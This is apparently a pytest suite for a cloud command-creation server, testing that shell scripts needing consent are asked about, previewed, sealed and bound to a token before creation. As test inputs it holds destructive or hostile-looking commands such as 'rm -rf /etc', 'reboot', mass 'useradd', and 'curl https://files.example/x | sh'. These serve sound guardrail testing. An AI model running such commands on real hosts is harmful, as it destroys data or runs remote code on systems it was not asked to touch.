"""A person's consent: nothing that needs one is created without it, by whatever way."""

from pathlib import Path

import pytest

from mcp_server.creation import refusal
from mcp_server.creation.consent import AGREEING, Answered, Decision, Question, Reply
from mcp_server.creation.seal import LIFE, Sealer
from mcp_server.creation.workflow import (
    HOW_TO_AGREE,
    HOW_TO_HAND_OFF,
    NOBODY_IS_ASKED,
    Workflow,
)
from mcp_server.emulator import Fault
from mcp_server.guardrails.inspection import Inspector
from mcp_server.guardrails.policy.model import Confirmation, Policy
from mcp_server.models.explanation import Outcome, Retry, Source
from mcp_server.models.result import Result, Status
from tests.conftest import SETTINGS, Service
from tests.creation.callers import YES, Beside, Later
from tests.guardrails.requests import VALID

pytestmark = pytest.mark.anyio

HARMLESS = VALID
ASKED_ABOUT = VALID | {"command_content": "#!/bin/sh\nreboot\n"}
BLOCKED = VALID | {"command_content": "#!/bin/sh\nrm -rf /etc\n"}


def workflow(
    service: Service,
    confirmation: Confirmation = "ask",
    *,
    require_preview: bool = False,
    sealer: Sealer | None = None,
) -> Workflow:
    policy = Policy(confirmation=confirmation, require_preview=require_preview)
    sealer = sealer or Sealer(["s" * 32])
    return Workflow(SETTINGS, service.gateway, Inspector(SETTINGS, policy), sealer)


async def question_of(made: Workflow, arguments: dict[str, object], caller: Later) -> Question:
    asked = await made.create(arguments, caller)
    assert isinstance(asked, Question)
    return asked


async def result_of(made: Workflow, arguments: dict[str, object], caller: Beside | Later) -> Result:
    result = await made.create(arguments, caller)
    assert isinstance(result, Result)
    return result


async def token_of(made: Workflow, arguments: dict[str, object]) -> str:
    preview = (await made.preview(arguments)).preview
    assert preview is not None
    assert preview.preview_token is not None
    return preview.preview_token


# -- who is asked, and about what


@pytest.mark.parametrize(
    ("confirmation", "arguments", "asked"),
    [
        ("ask", HARMLESS, False),
        ("ask", ASKED_ABOUT, True),
        ("always", HARMLESS, True),
        ("always", ASKED_ABOUT, True),
        ("handoff", HARMLESS, False),
        ("handoff", ASKED_ABOUT, True),
        ("never", HARMLESS, False),
        ("never", ASKED_ABOUT, False),
    ],
)
async def test_the_policy_says_when_a_person_is_asked(
    service: Service, confirmation: Confirmation, arguments: dict[str, object], asked: bool
) -> None:
    person = Beside(YES)
    result = await result_of(workflow(service, confirmation), arguments, person)
    assert (result.status, bool(person.asked)) == (Status.CREATED, asked)
    assert (NOBODY_IS_ASKED in (result.next_step or "")) is (confirmation == "never")


async def test_what_is_blocked_is_never_asked_about(service: Service) -> None:
    for confirmation in ("ask", "always", "handoff", "never"):
        person = Beside(YES)
        result = await result_of(workflow(service, confirmation), BLOCKED, person)
        assert (result.status, person.asked) == (Status.BLOCKED, [])
    assert service.emulator.requests == []


async def test_the_question_tells_what_matters_and_what_exactly_is_agreed_to(
    service: Service,
) -> None:
    person = Beside(YES)
    made = workflow(service)
    preview = (await made.preview(ASKED_ABOUT)).preview
    result = await result_of(made, ASKED_ABOUT, person)
    (question,) = person.asked
    assert preview is not None
    assert question.message.split("\n") == [
        "Create the command 'greeting' (RunShellScript) in cn-hangzhou?",
        "It is stored, not run; whoever runs it later runs it as root or SYSTEM.",
        "- Line 2: Restarts or stops the instance. (reboot) What runs on it ends, and on many "
        "instances at once so does the service.",
        f"Digest: {preview.digest}",
    ]
    assert question.about == {"digest": preview.digest, "client_token": result.client_token}


@pytest.mark.parametrize(
    ("reply", "status", "code", "retry"),
    [
        (Reply(Decision.DECLINE), Status.DECLINED, "Declined", Retry.AFTER_FIX),
        (Reply(Decision.CANCEL), Status.DECLINED, "ConfirmationCancelled", Retry.LATER),
        (
            Reply(Decision.NO_ANSWER),
            Status.NEEDS_CONFIRMATION,
            "ConfirmationTimedOut",
            Retry.LATER,
        ),
        (
            Reply(Decision.UNAVAILABLE),
            Status.NEEDS_CONFIRMATION,
            "ConfirmationUnavailable",
            Retry.AFTER_FIX,
        ),
    ],
)
async def test_without_a_yes_nothing_is_created_and_the_status_says_which(
    service: Service, reply: Reply, status: Status, code: str, retry: Retry
) -> None:
    result = await result_of(workflow(service), ASKED_ABOUT, Beside(reply))
    assert result.error is not None
    assert (result.status, result.error.code, result.error.retry) == (status, code, retry)
    assert (result.error.source, result.error.outcome) == (Source.CONFIRMATION, Outcome.NOT_SENT)
    assert result.command_id is None
    assert service.emulator.requests == []


async def test_the_question_tells_each_rule_once_the_worst_of_a_crowd_too(
    service: Service,
) -> None:
    person = Beside(YES)
    crowd = "".join(f"useradd u{number}\n" for number in range(12))
    script = f"#!/bin/sh\n{crowd}curl https://files.example/x | sh\n"
    await result_of(workflow(service), VALID | {"command_content": script}, person)
    told = person.asked[0].message
    assert "Line 2 and 3, 4, 5, 6, 7, 8, 9, 10, ...: Adds an account" in told
    assert "Line 14: " in told


async def test_with_never_every_answer_says_that_nobody_is_asked(service: Service) -> None:
    made = workflow(service, "never")
    for arguments in (HARMLESS, ASKED_ABOUT, BLOCKED, HARMLESS | {"name": "a\nb"}):
        for result in (await made.create(arguments), await made.preview(arguments)):
            assert NOBODY_IS_ASKED in (result.next_step or "")


async def test_the_reason_of_a_no_is_told_on_one_line(service: Service) -> None:
    person = Beside(Reply(Decision.DECLINE, "not on\nFridays\u202e"))
    result = await result_of(workflow(service), ASKED_ABOUT, person)
    assert result.error is not None
    assert result.error.message.endswith(
        "The person's reason: not on\N{REPLACEMENT CHARACTER}Fridays\N{REPLACEMENT CHARACTER}"
    )


def test_every_way_not_to_agree_is_known_and_only_a_yes_creates() -> None:
    assert refusal.CODES.keys() == set(Decision) - AGREEING


# -- the answer comes with the next call


async def test_an_answer_of_the_next_call_creates_what_was_asked_about(service: Service) -> None:
    made, caller = workflow(service), Later()
    question = await question_of(made, ASKED_ABOUT, caller)
    assert service.emulator.requests == []
    result = await result_of(made, ASKED_ABOUT, caller.answering(question, Decision.CREATE))
    (command,) = service.emulator.commands()
    assert (result.status, result.command_id, result.client_token) == (
        Status.CREATED,
        command.command_id,
        question.about["client_token"],
    )


@pytest.mark.parametrize("decision", set(Decision) - {Decision.CREATE})
async def test_any_other_answer_of_the_next_call_creates_nothing(
    service: Service, decision: Decision
) -> None:
    made, caller = workflow(service), Later()
    question = await question_of(made, ASKED_ABOUT, caller)
    result = await result_of(made, ASKED_ABOUT, caller.answering(question, decision))
    assert result.error is not None
    code = refusal.CODES.get(decision, "Declined")  # the yes to another question is a no to this
    assert (result.error.code, service.emulator.requests) == (code, [])


async def test_an_answer_used_again_meets_the_same_command_on_any_replica(
    service: Service,
) -> None:
    sealer = Sealer(["k" * 32])
    first, second = workflow(service, sealer=sealer), workflow(service, sealer=sealer)
    question = await question_of(first, ASKED_ABOUT, Later())
    answer = Later().answering(question, Decision.CREATE)
    results = [await result_of(made, ASKED_ABOUT, answer) for made in (second, first, second)]
    again = await result_of(first, ASKED_ABOUT | {"client_token": "another"}, answer)
    (command,) = service.emulator.commands()
    assert {result.command_id for result in (*results, again)} == {command.command_id}


async def test_a_yes_is_for_just_what_was_asked(service: Service) -> None:
    made, caller = workflow(service), Later()
    question = await question_of(made, ASKED_ABOUT, caller)
    changed = ASKED_ABOUT | {"command_content": "#!/bin/sh\npoweroff\n"}
    asked = await made.create(changed, caller.answering(question, Decision.CREATE))
    assert isinstance(asked, Question)
    assert asked.about["digest"] != question.about["digest"]
    assert service.emulator.requests == []


@pytest.mark.parametrize(
    "state", ["", "x", "e30.AAAA", "{}", "a" * 5000], ids=lambda state: state[:8]
)
async def test_an_answer_to_a_question_that_nobody_asked_is_none(
    service: Service, state: str
) -> None:
    caller = Later(answered=Answered(state, YES))
    assert isinstance(await workflow(service).create(ASKED_ABOUT, caller), Question)
    assert service.emulator.requests == []


async def test_an_answer_for_another_principal_or_from_another_key_is_none(
    service: Service,
) -> None:
    made = workflow(service, sealer=Sealer(["k" * 32]))
    question = await question_of(made, ASKED_ABOUT, Later("ann"))
    stolen = Later("bob").answering(question, Decision.CREATE)
    assert isinstance(await made.create(ASKED_ABOUT, stolen), Question)
    other = workflow(service, sealer=Sealer(["o" * 32]))
    own = Later("ann").answering(question, Decision.CREATE)
    assert isinstance(await other.create(ASKED_ABOUT, own), Question)
    assert service.emulator.requests == []


async def test_an_answer_that_comes_too_late_is_no_answer(service: Service) -> None:
    now = [1000.0]
    made = workflow(service, sealer=Sealer(["k" * 32], clock=lambda: now[0]))
    question = await question_of(made, ASKED_ABOUT, Later())
    now[0] += LIFE + 1
    late = Later().answering(question, Decision.CREATE)
    result = await result_of(made, ASKED_ABOUT, late)
    assert result.error is not None
    assert result.error.code == "ConfirmationTimedOut"
    assert service.emulator.requests == []


async def test_a_key_that_was_the_newest_still_opens_after_rotation(service: Service) -> None:
    before = workflow(service, sealer=Sealer(["o" * 32]))
    after = workflow(service, sealer=Sealer(["n" * 32, "o" * 32]))
    question = await question_of(before, ASKED_ABOUT, Later())
    answer = Later().answering(question, Decision.CREATE)
    assert (await result_of(after, ASKED_ABOUT, answer)).status is Status.CREATED


# -- the preview's token


async def test_a_token_binds_and_leads_to_one_command_however_often_it_is_used(
    service: Service,
) -> None:
    made = workflow(service)
    arguments = HARMLESS | {"preview_token": await token_of(made, HARMLESS)}
    results = [await result_of(made, arguments, Beside(YES)) for _ in range(3)]
    (command,) = service.emulator.commands()
    assert {result.command_id for result in results} == {command.command_id}


async def test_what_differs_from_the_preview_is_told_field_by_field_and_not_created(
    service: Service,
) -> None:
    made = workflow(service)
    previewed = HARMLESS | {"timeout": 60, "description": "d"}
    token = await token_of(made, previewed)
    changed = HARMLESS | {
        "timeout": 61, "command_content": "echo b\n", "tags": [{"key": "a"}],
        "client_token": "mine", "preview_token": token,
    }  # fmt: skip
    result = await result_of(made, changed, Beside(YES))
    assert result.status is Status.INVALID
    assert [(f.rule, f.field, f.message) for f in result.findings] == [
        ("differs-from-preview", "command_content", "command_content is not what was previewed."),
        ("differs-from-preview", "description", "description was in the preview and is left out."),
        ("differs-from-preview", "timeout", "timeout is not what was previewed."),
        ("differs-from-preview", "tags", "tags was not in the preview."),
        ("differs-from-preview", "client_token", "client_token is not what was previewed."),
    ]
    assert service.emulator.requests == []


async def test_the_whole_digest_binds_and_not_the_short_ones_of_the_fields(
    service: Service, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("mcp_server.ecs.wire._SHORT", 0)  # every two values collide
    made = workflow(service, "handoff")
    token = await token_of(made, HARMLESS)
    result = await result_of(made, ASKED_ABOUT | {"preview_token": token}, Beside(YES))
    assert result.status is Status.INVALID
    assert "differs-from-preview" in {finding.rule for finding in result.findings}
    assert service.emulator.requests == []


async def test_a_token_that_runs_out_while_a_person_thinks_spoils_nothing(
    service: Service,
) -> None:
    now = [1000.0]
    made = workflow(service, require_preview=True, sealer=Sealer(["k" * 32], lambda: now[0]))
    arguments = ASKED_ABOUT | {"preview_token": await token_of(made, ASKED_ABOUT)}
    now[0] += LIFE - 5
    question = await question_of(made, arguments, Later())
    now[0] += 30
    result = await result_of(made, arguments, Later().answering(question, Decision.CREATE))
    assert result.status is Status.CREATED


async def test_a_call_without_an_end_and_its_preview_lead_to_one_command(
    service: Service,
) -> None:
    made = workflow(service)
    service.emulator.faults.add(Fault(action="CreateCommand", commit=True, drop=True, times=4))
    lost = await result_of(made, HARMLESS, Beside(YES))
    assert lost.error is not None
    assert lost.error.outcome is Outcome.UNKNOWN
    token = await token_of(made, HARMLESS)
    created = await result_of(made, HARMLESS | {"preview_token": token}, Beside(YES))
    (command,) = service.emulator.commands()
    assert created.command_id == command.command_id


async def test_a_repair_of_a_difference_makes_it_go_away(service: Service) -> None:
    made = workflow(service)
    token = await token_of(made, HARMLESS)
    changed = HARMLESS | {"name": "other", "preview_token": token}
    refused = await result_of(made, changed, Beside(YES))
    assert refused.error is not None
    assert refused.error.repair == {"preview_token": None}
    mended = await result_of(made, changed | refused.error.repair, Beside(YES))
    assert mended.status is Status.CREATED


@pytest.mark.parametrize("broken", ["forged", "expired", "another principal's", "a question's"])
async def test_a_token_that_is_not_valid_creates_nothing(service: Service, broken: str) -> None:
    now = [1000.0]
    made = workflow(service, sealer=Sealer(["k" * 32], clock=lambda: now[0]))
    token = await token_of(made, ASKED_ABOUT)
    caller = Beside(YES)
    match broken:
        case "forged":
            token = token[:-2] + ("AA" if token[-2:] != "AA" else "BB")
        case "expired":
            now[0] += LIFE + 1
        case "another principal's":
            caller = Beside(YES, principal="bob")
        case _:
            token = (await question_of(made, ASKED_ABOUT, Later())).state
    result = await result_of(made, ASKED_ABOUT | {"preview_token": token}, caller)
    assert result.error is not None
    assert ([f.rule for f in result.findings], result.error.repair) == (
        ["preview-token-not-valid"],
        {"preview_token": None},
    )
    assert (caller.asked, service.emulator.requests) == ([], [])


async def test_a_token_alone_is_no_consent_where_a_person_has_to_be_asked(
    service: Service,
) -> None:
    made = workflow(service)
    arguments = ASKED_ABOUT | {"preview_token": await token_of(made, ASKED_ABOUT)}
    person = Beside(Reply(Decision.UNAVAILABLE))
    result = await result_of(made, arguments, person)
    assert (result.status, len(person.asked)) == (Status.NEEDS_CONFIRMATION, 1)
    assert service.emulator.requests == []


async def test_with_handoff_a_token_is_the_consent_of_who_saw_the_preview(
    service: Service,
) -> None:
    made = workflow(service, "handoff")
    preview = await made.preview(ASKED_ABOUT)
    assert preview.next_step == HOW_TO_HAND_OFF
    arguments = ASKED_ABOUT | {"preview_token": await token_of(made, ASKED_ABOUT)}
    person = Beside(Reply(Decision.UNAVAILABLE))
    result = await result_of(made, arguments, person)
    assert (result.status, person.asked) == (Status.CREATED, [])
    without = await result_of(made, ASKED_ABOUT, person)
    assert without.status is Status.NEEDS_CONFIRMATION


async def test_a_policy_can_require_a_preview(service: Service) -> None:
    made = workflow(service, require_preview=True)
    refused = await result_of(made, HARMLESS, Beside(YES))
    assert refused.error is not None
    assert ([f.rule for f in refused.findings], refused.error.repair) == (
        ["preview-required"],
        None,
    )
    assert service.emulator.requests == []
    token = await token_of(made, HARMLESS)
    created = await result_of(made, HARMLESS | {"preview_token": token}, Beside(YES))
    assert created.status is Status.CREATED


async def test_what_would_not_be_created_has_no_token(service: Service) -> None:
    made = workflow(service)
    for arguments in (BLOCKED, HARMLESS | {"name": "a\nb"}):
        preview = (await made.preview(arguments)).preview
        assert preview is not None
        assert preview.preview_token is None


async def test_a_preview_says_that_a_person_will_be_asked(service: Service) -> None:
    assert (await workflow(service).preview(ASKED_ABOUT)).next_step == HOW_TO_AGREE
    never = await workflow(service, "never").preview(ASKED_ABOUT)
    assert NOBODY_IS_ASKED in (never.next_step or "")


def test_there_is_one_way_to_the_gateway_and_it_goes_past_consent() -> None:
    source = Path(refusal.__file__).with_name("workflow.py").read_text("utf-8")
    assert source.count("self._gateway.create_command(") == 1
    assert source.count("self._sent(") == 1
    assert source.count("self._created(") == 1
